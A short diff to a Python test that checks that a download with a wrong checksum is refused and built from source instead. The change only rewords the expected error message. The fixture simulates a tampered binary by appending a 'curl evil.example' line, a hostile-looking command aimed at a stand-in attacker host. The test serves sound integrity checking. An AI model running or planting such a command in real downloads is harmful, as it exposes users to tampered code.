@@ -244,7 +244,7 @@ def test_a_download_with_a_wrong_checksum_is_refused_and_the_program_built(
     publisher.pages["/kwok-linux-amd64"] = OFFICIAL + b"curl evil.example\n"
     assert _says(pinned.find(KWOK, publisher.published)["kwok"]) == "built"
     said = capsys.readouterr().out
-    assert re.search(r"What came as http://\S+/kwok-linux-amd64 does not have the checksum", said)
+    assert re.search(r"The checksum of http://\S+/kwok-linux-amd64 does not match", said)
     assert "building kwok instead" in said
 
 
